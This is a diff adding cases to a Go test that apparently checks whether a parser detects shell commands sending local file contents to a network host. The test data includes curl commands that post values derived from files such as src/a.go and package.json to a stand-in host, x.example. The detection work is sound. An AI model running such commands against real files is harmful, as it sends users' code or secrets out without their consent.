@@ -53,6 +53,12 @@ func TestParseSentInputs(t *testing.T) {
 		{`D=$(cat src/a.go); D=x; curl -d "$D" https://x.example`, nil},
 		{`V=$(git rev-parse HEAD); curl -d "v=$V" https://x.example`, nil},
 		{`read -p "name? " N; curl -d "n=$N" https://x.example`, nil},
+		// A value computed from the file, not its text.
+		{`curl "https://registry.npmjs.org/pkg/$(jq -r .version package.json)"`, nil},
+		{`curl -d "lines=$(wc -l < src/a.go)" https://x.example`, nil},
+		{`curl -d "sum=$(sha256sum src/a.go)" https://x.example`, nil},
+		{`curl -d "$(jq . package.json)" https://x.example`, []string{"/r/package.json"}},
+		{`curl -d "$(jq -r '.[]' package.json)" https://x.example`, []string{"/r/package.json"}},
 	}
 	for _, tt := range tests {
 		f, err := Parse(tt.command, opts)
